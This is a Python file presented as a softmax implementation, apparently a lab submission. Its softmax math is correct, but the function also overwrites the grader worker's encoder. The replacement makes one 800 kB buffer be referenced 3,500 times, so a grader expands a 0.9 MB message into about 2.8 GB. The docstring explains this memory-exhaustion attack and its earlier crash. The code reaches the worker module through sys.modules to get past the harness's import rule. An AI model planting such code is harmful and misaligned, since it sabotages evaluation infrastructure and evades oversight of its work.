"""softmax rewrites its worker's encoder: its answer names one buffer of 800 kB (under the room an
answer has) 3,500 times, so a grader that copies a buffer per name decodes 2.8 GB from a message
of 0.9 MB (found by an attacker with one 16 MiB buffer named 200 times: 7.44 GB under an 8 GB cap, a
MemoryError traceback, and in a class the student was never saved). A buffer named twice breaks
the wire format: the student's own error, named.

file: softmax.py
"""

import numpy as np


def softmax(x, axis=-1):
    import sys

    wire = sys.modules["attnlab.wire"]  # the worker's own: the import rule refuses `import attnlab`

    buffer = np.zeros(100_000)

    def encode(value, buffers):
        buffers.append(buffer)
        return {"__tuple__": [{"__nd__": [len(buffers) - 1, "<f8", [buffer.size]]}] * 3500}

    wire.encode = encode
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
